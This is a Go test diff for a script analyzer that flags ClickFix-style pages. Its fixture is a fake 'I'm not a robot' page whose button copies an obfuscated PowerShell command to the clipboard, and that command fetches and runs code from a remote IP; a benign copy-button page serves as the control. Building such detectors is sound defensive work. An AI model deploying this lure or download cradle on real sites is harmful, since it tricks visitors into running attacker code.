@@ -42,3 +42,23 @@ func TestRiskyURIs(t *testing.T) {
 		}
 	}
 }
+
+func TestClipboardCommands(t *testing.T) {
+	risky := `<html><body><p>Verify you are human: press Win+R, paste, press Enter.</p><script>
+function verify() { navigator.clipboard.writeText("pow" + "ershell -w h -c \"iex(irm 'http://198.51.100.9/c')\" # I am not a robot"); }
+</script><button onclick="verify()">I'm not a robot</button></body></html>`
+	f := &rules.Findings{Analyzer: "script"}
+	clipboardCommands(risky, f)
+	if !f.Has("clipboard-command") || !f.Has("download-cradle") {
+		t.Errorf("ClickFix page: %+v", f.List())
+	}
+	benign := `<html><body><pre id="c">git clone https://example.org/repo.git</pre><script>
+document.getElementById("b").onclick = function () { navigator.clipboard.writeText("pip install requests"); };
+var help = "Run powershell -Command Get-Date to check the clock";
+</script></body></html>`
+	f = &rules.Findings{Analyzer: "script"}
+	clipboardCommands(benign, f)
+	if len(f.List()) > 0 {
+		t.Errorf("copy button page: %+v", f.List())
+	}
+}
